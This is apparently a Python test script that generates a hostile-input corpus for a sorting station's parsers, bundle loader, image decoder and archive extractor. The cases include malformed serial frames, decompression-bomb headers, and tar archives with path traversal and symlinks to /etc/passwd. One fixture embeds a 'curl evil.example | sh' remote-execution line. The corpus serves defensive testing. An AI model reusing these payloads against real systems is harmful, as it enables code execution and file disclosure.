"""Writes the hostile-input corpus beside this file (committed; run again only to change it):

    python tests/hostile/make_corpus.py

Each file is one input an attacker or a broken device could give the station, and
``expected.json`` says what must happen to it: which error class (or, for serial bytes, which
rejection counter) must catch it. ``tests/test_hostile.py`` feeds every file to the real
boundary (the parser, the bundle loader and the model check, the station-file loader, the
image decoder, the archive extractor) and ``benchmarks/fuzz.py`` starts from these files.
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).parent


def crc16(data: bytes) -> int:
    import binascii

    return binascii.crc_hqx(data, 0xFFFF)


def frame(body: str) -> bytes:
    raw = body.encode("latin-1")
    return b"$" + raw + b"*%04X\n" % crc16(raw)


# serial: name -> (bytes, the ParserStats counter that must count it, or "implausible": parsed,
# but no sensor can report it, so ReadingLimits must refuse it)
SERIAL = {
    "item-id-20-digits": (frame("1,1,ITEM,12345678901234567890,0,1500,250"), "out_of_range"),
    "hb-id-20-digits": (frame("1,1,HB,1500,99999999999999999999"), "out_of_range"),
    "item-id-40-digits": (frame("1,1,ITEM," + "9" * 40 + ",0,1500,250"), "malformed"),
    "hb-id-1e18": (frame("1,1,HB,1500,1000000000000000000"), "out_of_range"),
    "item-negative-id": (frame("1,1,ITEM,-5,0,1500,250"), "out_of_range"),
    "item-lane-300": (frame("1,1,ITEM,5,300,1500,250"), "out_of_range"),
    "item-deadline-negative": (frame("1,1,ITEM,5,0,1500,-1"), "out_of_range"),
    "item-deadline-days": (frame("1,1,ITEM,5,0,1500,86400000"), "out_of_range"),
    "item-time-negative": (frame("1,1,ITEM,5,0,-1500,250"), "out_of_range"),
    "gate-exit-250-digits": (frame("1,1,GATE,5," + "9" * 100), "malformed"),
    "ack-float-id": (frame("1,1,ACK,5.5"), "malformed"),
    "tap-index-100": (frame("1,1,TAP,5,100,5,8.4,0.5,9.7,1512"), "out_of_range"),
    "tap-count-zero": (frame("1,1,TAP,5,0,0,8.4,0.5,9.7,1512"), "out_of_range"),
    "tap-nan-peak": (frame("1,1,TAP,5,0,5,nan,0.5,9.7,1512"), "malformed"),
    "tap-inf-decay": (frame("1,1,TAP,5,0,5,8.4,0.5,inf,1512"), "malformed"),
    "weight-stable-7": (frame("1,1,WT,1500,300.0,7"), "out_of_range"),
    "weight-huge-exponent": (frame("1,1,WT,1500,1e999,1"), "malformed"),
    "err-code-negative": (frame("1,1,ERR,-1,boom"), "out_of_range"),
    "seq-huge": (frame("1,99999999999999999999999,ACK,5"), "malformed"),
    "version-2": (frame("2,1,ACK,5"), "bad_version"),
    "unknown-type": (frame("1,1,REBOOT,now"), "unknown_type"),
    "wrong-field-count": (frame("1,1,ITEM,5,0,1500"), "malformed"),
    "bad-crc": (b"$1,1,ITEM,5,0,1500,250*0000\n", "bad_crc"),
    "crc-not-hex": (b"$1,1,ITEM,5,0,1500,250*ZZZZ\n", "bad_crc"),
    "non-ascii-body": (frame("1,1,ERR,3,\xff\xfe"), "bad_crc"),
    "no-end-300-bytes": (b"$" + b"A" * 300, "oversize"),
    "nested-start": (b"$1,1,ITEM,5$1,2,ACK,5*0000\n", "malformed"),
    # the grammar is the protocol's, byte for byte, not what Python's int() and float() forgive
    "item-id-underscore": (frame("1,1,ITEM,1_000,0,1500,250"), "malformed"),
    "item-id-spaces": (frame("1,1,ITEM, 42 ,0,1500,250"), "malformed"),
    "item-id-plus": (frame("1,1,ITEM,+42,0,1500,250"), "malformed"),
    "hb-id-tab": (frame("1,1,HB,1500,\t7"), "malformed"),
    "gate-exit-hex": (frame("1,1,GATE,5,0x1"), "malformed"),
    "seq-underscore": (frame("1,1_0,ACK,5"), "malformed"),
    "ack-id-empty": (frame("1,1,ACK,"), "malformed"),
    "tap-peak-underscore": (frame("1,1,TAP,5,0,5,8_4.0,0.5,9.7,1512"), "malformed"),
    "tap-peak-infinity-word": (frame("1,1,TAP,5,0,5,Infinity,0.5,9.7,1512"), "malformed"),
    "weight-spaces": (frame("1,1,WT,1500, 300.0,1"), "malformed"),
    "weight-hex-float": (frame("1,1,WT,1500,0x1p8,1"), "malformed"),
    "tap-peak-1e30": (frame("1,1,TAP,5,0,5,1e30,0.5,9.7,1512"), "implausible"),
    "tap-negative-decay": (frame("1,1,TAP,5,0,5,8.4,0.5,-3,1512"), "implausible"),
    "tap-rebound-2": (frame("1,1,TAP,5,0,5,8.4,2.0,9.7,1512"), "implausible"),
    "tap-index-beyond-series": (frame("1,1,TAP,5,9,10,8.4,0.5,9.7,1512"), "implausible"),
    "weight-10-tonnes": (frame("1,1,WT,1500,10000000,1"), "implausible"),
    "weight-negative-kg": (frame("1,1,WT,1500,-5000,1"), "implausible"),
}

# streams: frames that arrive in the middle of a clean line (line_check.py: items 100..115 at a
# 100 ms pitch, the controller's clock at 7900 ms when they come, after item 108), and the
# counter that must refuse them ("unharmed": nothing to refuse, nothing harmed)
STREAMS = {
    "hb-claims-the-next-id": (frame("1,50,HB,7950,109"), "claims_refused"),
    "hb-claims-five-ahead": (frame("1,50,HB,7950,113"), "claims_refused"),
    "hb-claims-beyond-the-gap": (frame("1,50,HB,7950,100000"), "claims_refused"),
    "hb-clock-an-hour-ahead": (frame("1,50,HB,3607950,108"), "clock_refused"),
    "hb-clock-a-second-ahead": (frame("1,50,HB,8950,108"), "clock_refused"),
    "item-clock-a-day-ahead": (frame("1,50,ITEM,5000,0,86407950,250"), "clock_refused"),
    "hb-clock-at-zero": (frame("1,50,HB,0,108"), "unharmed"),
    "hb-claims-and-clock-ahead": (frame("1,50,HB,3607950,112"), "claims_refused"),
}

# manifests: edits to a valid manifest (dotted key -> new value; "!raw" -> the manifest's text
# replaced by this string) and the BundleError text that must name the fault
MANIFESTS = {
    "exit-250-digits": ({"decision.safe_exit": "9" * 250}, "safe_exit"),
    "exit-huge-int": ({"decision.exits.A": 10**250}, "not a whole number"),
    "exit-256": ({"decision.exits.A": 256}, "accepts exits 0..255"),
    "exit-negative": ({"decision.safe_exit": -1}, "accepts exits 0..255"),
    "exit-float": ({"decision.exits.A": 1.5}, "not a whole number"),
    "exit-bool": ({"decision.exits.A": True}, "not a whole number"),
    "min-confidence-2": ({"decision.min_confidence": 2.0}, "min_confidence"),
    "nan-literal": ({"!raw": '{"schema_version": 1, "name": "x", "embedding_dim": NaN}'}, "NaN"),
    "infinity-fill": ({"!raw_sub": ["\"sensor_fill\": [", "\"sensor_fill\": [Infinity, "]}, "Infinity"),
    "embedding-dim-zero": ({"embedding_dim": 0}, "embedding_dim"),
    "embedding-dim-string": ({"embedding_dim": "16"}, "embedding_dim"),
    "input-size-1e6": ({"input.size": 1000000}, "input size"),
    "input-views-0": ({"input.views": 0}, "views"),
    "input-std-zero": ({"input.std": [0, 0.25, 0.25, 0.25]}, "std"),
    "labels-duplicate": ({"labels": ["A", "A", "external", "internal", "both"]}, "unique"),
    "name-empty": ({"name": ""}, "name"),
    "readings-expected-1000": ({"fusion.readings_expected": 1000}, "readings_expected"),
    "file-outside": ({"files.../../etc/passwd": "0" * 64}, "outside the bundle"),
    "file-signature-listed": ({"files.manifest.sig": "0" * 64}, "outside the bundle"),
    "name-an-object": ({"name": {"$gt": ""}}, "name"),
    "backbone-a-list": ({"backbone": ["backbone.onnx"]}, "backbone"),
    "head-a-number": ({"head": 7}, "head"),
    "files-hash-a-number": ({"files.head.npz": 12345}, "files"),
    "files-a-list": ({"files": ["head.npz"]}, "files"),
    "schema-version-string": ({"schema_version": "1"}, "schema_version"),
    "sensor-a-number": ({"fusion.sensor": 3}, "sensor"),
    "channels-a-string": ({"input.channels": "rgbn"}, "channels"),
    "metrics-a-string": ({"metrics": "fine"}, "metrics"),
    "labels-an-object": ({"labels": {"A": 1}}, "labels"),
    "not-an-object": ({"!raw": "[1, 2, 3]"}, "not a JSON object"),
    "deep-nesting": ({"!raw": "[" * 5000 + "]" * 5000}, "unreadable"),
    "not-utf8": ({"!raw_bytes": "ff fe 00 7b"}, "unreadable"),
}

# models: a file put in place of backbone.onnx with its hash updated (the manifest then checks
# out) and what the model check must say
MODELS = {
    "garbage.onnx": (bytes(range(256)) * 8, "cannot load"),
    "three-channels.onnx": ("fixture:tiny-3ch.onnx", "does not run"),
    "eight-wide.onnx": ("narrow", "the manifest says 16"),  # embeddings of 8, the manifest says 16
}

STATION = 'port = "loop://"\n'
UNSIGNED = "[station]\nallow_unsigned = true\n"
FOUR_VIEWS = "[[views]]\nrgb = 250\nnir = 251\n" * 4  # cameras this machine does not have
STATION_FILES = {
    "unknown-top-key.toml": ("[controller]\n" + STATION + "[rigg]\n[[views]]\nrgb = 0\n", "did you mean 'rig'"),
    "typo-nri.toml": ("[controller]\n" + STATION + "[[views]]\nrgb = 0\nnri = 2\n", "did you mean 'nir'"),
    "typo-tolerence.toml": ("[controller]\n" + STATION + "[rig]\ntolerence_ms = 40\n[[views]]\nrgb = 0\n",
                            "did you mean 'tolerance_ms'"),
    "negative-tolerance.toml": ("[controller]\n" + STATION + "[rig]\ntolerance_ms = -40\n[[views]]\nrgb = 0\n",
                                "rig.tolerance_ms"),
    "huge-wait.toml": ("[controller]\n" + STATION + "[rig]\nwait_ms = 1e300\n[[views]]\nrgb = 0\n", "rig.wait_ms"),
    "nan-wait.toml": ("[controller]\n" + STATION + "[rig]\nwait_ms = nan\n[[views]]\nrgb = 0\n", "rig.wait_ms"),
    "baud-string.toml": ("[controller]\n" + STATION + 'baud = "fast"\n[[views]]\nrgb = 0\n', "controller.baud"),
    "baud-bool.toml": ("[controller]\n" + STATION + "baud = true\n[[views]]\nrgb = 0\n", "controller.baud"),
    "no-views.toml": ("[controller]\n" + STATION, "views"),
    "100-views.toml": ("[controller]\n" + STATION + "[[views]]\nrgb = 0\n" * 100, "views"),
    "camera-index-negative.toml": ("[controller]\n" + STATION + "[[views]]\nrgb = -1\n", "views\\[0\\].rgb"),
    "limits-reversed.toml": ("[controller]\n" + STATION + "[limits]\ntap_peak_n = [500, 0]\n[[views]]\nrgb = 0\n",
                             "limits.tap_peak_n"),
    "limits-three-numbers.toml": ("[controller]\n" + STATION + "[limits]\nscale_grams = [0, 1, 2]\n"
                                  "[[views]]\nrgb = 0\n", "limits.scale_grams"),
    "sensor-without-port.toml": ("[controller]\n" + STATION + '[sensor]\nkind = "taps"\n[[views]]\nrgb = 0\n',
                                 "sensor.port"),
    "sensor-kind-sonar.toml": ("[controller]\n" + STATION + '[sensor]\nkind = "sonar"\n[[views]]\nrgb = 0\n',
                               "sensor.kind"),
    "port-empty.toml": ('[controller]\nport = ""\n[[views]]\nrgb = 0\n', "controller.port"),
    "public-key-number.toml": ("[station]\npublic_key = 7\n[controller]\n" + STATION + "[[views]]\nrgb = 0\n",
                               "station.public_key"),
    # found by benchmarks/fuzz.py: table names that are not identifiers once crashed the error message
    "fuzz-table-0sensor.toml": ("[controller]\n" + STATION + '[0sensor]\nkind = "taps"\n[[views]]\nrgb = 0\n',
                                "unknown key '0sensor'; did you mean 'sensor'"),
    "fuzz-table-dashed.toml": ("[controller]\n" + STATION + '[oess-rn]\nkind = "taps"\n[[views]]\nrgb = 0\n',
                               "unknown key 'oess-rn'"),
    # what serve checks at start, before an item comes: signing, the bundle's views, the cameras
    "unsigned-by-default.toml": ("[controller]\n" + STATION + FOUR_VIEWS, "names no public_key"),
    "allow-unsigned-string.toml": ('[station]\nallow_unsigned = "yes"\n[controller]\n' + STATION + FOUR_VIEWS,
                                   "station.allow_unsigned"),
    "public-key-missing-file.toml": ('[station]\npublic_key = "nope.pub"\n[controller]\n' + STATION + FOUR_VIEWS,
                                     "no such public key file"),
    "fewer-views.toml": (UNSIGNED + "[controller]\n" + STATION + "[[views]]\nrgb = 250\nnir = 251\n" * 2,
                         "2 \\[\\[views\\]\\], the bundle decides on 4"),
    "more-views.toml": (UNSIGNED + "[controller]\n" + STATION + "[[views]]\nrgb = 250\nnir = 251\n" * 6,
                        "6 \\[\\[views\\]\\], the bundle decides on 4"),
    "no-nir-camera.toml": (UNSIGNED + "[controller]\n" + STATION + "[[views]]\nrgb = 250\n" * 4, "takes NIR"),
    "camera-index-absent.toml": (UNSIGNED + "[controller]\n" + STATION + FOUR_VIEWS,
                                 "views\\[0\\].rgb = 250: the camera cannot be opened"),
    "camera-rtsp-unreachable.toml": (UNSIGNED + "[controller]\n" + STATION
                                     + '[[views]]\nrgb = "rtsp://127.0.0.1:9/line3"\nnir = 251\n' * 4,
                                     "views\\[0\\].rgb = 'rtsp://127.0.0.1:9/line3': the camera cannot be opened"),
    "camera-folder-missing.toml": (UNSIGNED + "[controller]\n" + STATION
                                   + '[[views]]\nrgb = "folder:no/such/folder"\nnir = 251\n' * 4,
                                   "views\\[0\\].rgb = 'folder:no/such/folder': the camera cannot be opened"),
    "not-toml.toml": ("[controller\nport=", "not a readable TOML"),
    "binary.toml": ("\x00\x01\x02garbage", "not a readable TOML"),
}


# pipeline: what ItemPipeline.decide is handed when called directly (the station checks first):
# "embeddings" (4 views × 16 of 0.5 unless a shape or a fill is given), "readings" (five good
# taps unless given: a list of [TYPE, fields]), and what must happen: a PipelineInputError
# naming the fault, or "left out" (decided on the views alone, the readings counted as rejected)
def _taps(**bad) -> list:
    return [["TAP", {"item_id": 7, "index": i, "count": 5, "peak_n": 8.4, "rebound": 0.5, "decay_ms": 9.7,
                     "t_ms": 1500 + i, **(bad if i == 2 else {})}] for i in range(5)]


PIPELINE = {
    "embeddings-nan": ({"fill": "nan"}, "NaN or infinity"),
    "embeddings-inf": ({"fill": "inf"}, "NaN or infinity"),
    "embeddings-9-views": ({"shape": [9, 16]}, "1..4 views"),
    "embeddings-zero-views": ({"shape": [0, 16]}, "1..4 views"),
    "embeddings-wrong-width": ({"shape": [4, 15]}, "1..4 views × 16"),
    "embeddings-one-dimensional": ({"shape": [16]}, "shape"),
    "tap-peak-1e30": ({"readings": _taps(peak_n=1e30)}, "left out"),
    "tap-rebound-negative": ({"readings": _taps(rebound=-0.5)}, "left out"),
    "tap-decay-nan": ({"readings": _taps(decay_ms=float("nan"))}, "left out"),
    "tap-index-beyond-count": ({"readings": _taps(index=7)}, "left out"),
    "tap-count-not-the-sensors": ({"readings": _taps(count=9)}, "left out"),
    "weight-for-a-tap-bundle": ({"readings": [["WT", {"t_ms": 1500, "grams": 300.0, "stable": 1}]]}, "left out"),
}


# bundle_files: a file put in place of one of a bundle's arrays (named by its prefix), its hash updated (the manifest
# then checks out), and what loading it must say; no header may make the loader allocate
def _npy_header(shape: tuple, descr: str = "<f4", version: int = 1) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode("latin-1")
    pad = 64 - (10 + len(header) + 1) % 64
    body = header + b" " * pad + b"\n"
    size = struct.pack("<H", len(body)) if version == 1 else struct.pack("<I", len(body))
    return b"\x93NUMPY" + bytes([version, 0]) + size + body


def _npz(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(f"{name}.npy", date_time=(2026, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


BUNDLE_FILES = {
    "head-coef-1e10.npz": (_npz({"coef": _npy_header((100000, 100000))}), "declares shape"),
    "head-labels-huge.npz": (_npz({"labels": _npy_header((10**9,), "<U8")}), "declares shape"),
    "head-object-array.npz": (_npz({"coef": _npy_header((4, 4), "|O")}), "Python objects"),
    "head-data-short.npz": (_npz({"coef": _npy_header((4, 37)) + b"\x00" * 16}), "declares 592 bytes"),
    "head-npy-version-9.npz": (_npz({"coef": b"\x93NUMPY\x09\x00" + b"\x00" * 64}), "version"),
    "head-not-a-zip.npz": (b"PK\x03\x04 truncated", "not a readable .npz"),
    "check-inputs-1e10.npz": (_npz({"inputs": _npy_header((10**5, 4, 32, 32, 1000))}),
                              "declares shape"),
    "examples-features-1e10.npz": (_npz({"features": _npy_header((10**8, 100))}),
                                   "declares shape"),
    "examples-trained-on-1e9.npz": (_npz({"trained_on": _npy_header((10**9,), "|b1")}), "declares shape"),
}

# bundle_archives: the fixture bundle packed with something more (a recipe the test builds:
# "extra" files beside the manifest, "outside" files beside the bundle's folder, "copies" of the
# whole bundle, "folder": the bundle as a folder, not an archive) and what loading must say
BUNDLE_ARCHIVES = {
    "two-bundles.json": ({"copies": 2}, "2 manifests"),
    "unlisted-script.json": ({"extra": {"run.sh": "#!/bin/sh\ncurl evil.example | sh\n"}}, "not listed"),
    "unlisted-blob.json": ({"extra": {"blob.bin": 1 << 20}}, "not listed"),
    # an ONNX model's external data must be a file the manifest hashes; ONNX Runtime itself
    # refuses a location that is absolute or leaves the model's folder
    "onnx-external-data-unlisted.json": ({"extra": {"backbone.onnx.data": 4096}}, "not listed"),
    "member-beside-the-bundle.json": ({"outside": {"evil.txt": "x"}}, "outside the bundle's folder"),
    "unlisted-in-a-folder.json": ({"extra": {"notes/readme.txt": "hi"}, "folder": True}, "not listed"),
}


# datasets: split files as people save them by mistake, and what load_image_set must say
DATASETS = {
    "split-latin1.txt": ("a.png, 1\nstr\xe4wberry.png, 2\n".encode("latin-1"), "2: byte 0xe4 at column 4 is not UTF-8"),
    "split-utf16.txt": ("a.png, 1\n".encode("utf-16"), "1: byte 0xff at column 1 is not UTF-8"),
    "split-binary.txt": (bytes(range(256)), "not UTF-8 text"),
    "split-no-label.txt": (b"a.png\n", "expected 'path, label"),
    "split-empty.txt": (b"# nothing\n", "no images listed"),
}


def png(width: int, height: int, payload: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(payload)) + chunk(b"IEND", b"")


def jpeg_header(width: int, height: int) -> bytes:
    sof = struct.pack(">BHHB", 8, height, width, 3) + b"\x01\x11\x00\x02\x11\x00\x03\x11\x00"
    return b"\xff\xd8" + b"\xff\xc0" + struct.pack(">H", len(sof) + 2) + sof + b"\xff\xd9"


IMAGES = {
    "png-20000x20000.png": (png(20000, 20000, b"\x00" * 60000), "over the limit"),
    "jpeg-65000x65000.jpg": (jpeg_header(65000, 65000), "over the limit"),
    "bmp-huge.bmp": (b"BM" + b"\x00" * 16 + struct.pack("<ii", 30000, -30000) + b"\x00" * 40, "over the limit"),
    "png-truncated.png": (png(64, 64, b"\x00" * 64 * 193)[:60], "not a readable image"),
    "empty.png": (b"", "not a readable image"),
    "text.jpg": (b"hello, I am not a picture\n", "not a readable image"),
}


def _tar(entries: list[tuple[tarfile.TarInfo, bytes | None]], gz: bool = False) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for info, data in entries:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return gzip.compress(buf.getvalue(), mtime=0) if gz else buf.getvalue()  # the same bytes on every run


def _file(name: str, data: bytes = b"x", **kw) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    for k, v in kw.items():
        setattr(info, k, v)
    return info, data


def _special(name: str, kind: bytes, **kw) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    for k, v in kw.items():
        setattr(info, k, v)
    return info, None


def _bomb_header() -> bytes:
    info = tarfile.TarInfo("bundle/backbone.onnx")
    info.size = 5 << 30  # claims 5 GiB; the data is not there
    return info.tobuf(format=tarfile.GNU_FORMAT) + b"\x00" * 1024


ARCHIVES = {
    "path-traversal.tar": (_tar([_file("../../escaped.txt")]), "not a readable bundle archive"),
    # the "data" filter unpacks an absolute name inside the folder: harmless, then no manifest
    "absolute-path.tar": (_tar([_file("/tmp/sortline-absolute.txt")]), "holds no manifest.json"),
    "symlink-out.tar": (_tar([_special("bundle/manifest.json", tarfile.SYMTYPE, linkname="/etc/passwd")]),
                        "not a readable bundle archive"),
    "device-file.tar": (_tar([_special("bundle/dev", tarfile.CHRTYPE, devmajor=1, devminor=3)]),
                        "not a readable bundle archive"),
    "too-many-members.tar.gz": (_tar([_file(f"bundle/f{i}") for i in range(400)], gz=True), "entries"),
    "claims-5-gib.tar": (_bomb_header(), "MiB unpacked"),
    "no-manifest.tar": (_tar([_file("bundle/readme.txt")]), "holds no manifest.json"),
    "not-a-tar.tar.gz": (b"\x1f\x8b\x08\x00garbage", "not a readable bundle archive"),
}


def main() -> None:
    expected: dict[str, dict[str, str]] = {"serial": {}, "manifests": {}, "models": {}, "station_files": {},
                                           "images": {}, "archives": {}, "pipeline": {}, "bundle_files": {},
                                           "bundle_archives": {}, "datasets": {}, "streams": {}}
    for kind in expected:
        (HERE / kind).mkdir(exist_ok=True)
        for old in (HERE / kind).iterdir():
            old.unlink()
    for name, (data, outcome) in SERIAL.items():
        (HERE / "serial" / f"{name}.bin").write_bytes(data)
        expected["serial"][f"{name}.bin"] = outcome
    for name, (edit, message) in MANIFESTS.items():
        (HERE / "manifests" / f"{name}.json").write_text(json.dumps(edit) + "\n")
        expected["manifests"][f"{name}.json"] = message
    for name, (data, message) in MODELS.items():
        if data == "narrow":
            sys.path.insert(0, str(HERE.parent / "fixtures"))
            from make_tiny_onnx import tiny_backbone_onnx

            tiny_backbone_onnx(HERE / "models" / name, channels=4, width=8)
        else:
            if isinstance(data, str):
                data = (HERE.parent / "fixtures" / data.split(":", 1)[1]).read_bytes()
            (HERE / "models" / name).write_bytes(data)
        expected["models"][name] = message
    for name, (text, message) in STATION_FILES.items():
        (HERE / "station_files" / name).write_text(text)
        expected["station_files"][name] = message
    for name, (data, message) in IMAGES.items():
        (HERE / "images" / name).write_bytes(data)
        expected["images"][name] = message
    for name, (data, message) in ARCHIVES.items():
        (HERE / "archives" / name).write_bytes(data)
        expected["archives"][name] = message
    for name, (case, outcome) in PIPELINE.items():
        (HERE / "pipeline" / f"{name}.json").write_text(json.dumps(case) + "\n")
        expected["pipeline"][f"{name}.json"] = outcome
    for name, (data, message) in BUNDLE_FILES.items():
        (HERE / "bundle_files" / name).write_bytes(data)
        expected["bundle_files"][name] = message
    for name, (recipe, message) in BUNDLE_ARCHIVES.items():
        (HERE / "bundle_archives" / name).write_text(json.dumps(recipe) + "\n")
        expected["bundle_archives"][name] = message
    for name, (data, outcome) in STREAMS.items():
        (HERE / "streams" / f"{name}.bin").write_bytes(data)
        expected["streams"][f"{name}.bin"] = outcome
    for name, (data, message) in DATASETS.items():
        (HERE / "datasets" / name).write_bytes(data)
        expected["datasets"][name] = message
    (HERE / "expected.json").write_text(json.dumps(expected, indent=1) + "\n")
    print(f"{sum(len(v) for v in expected.values())} inputs in {HERE}")


if __name__ == "__main__":
    main()
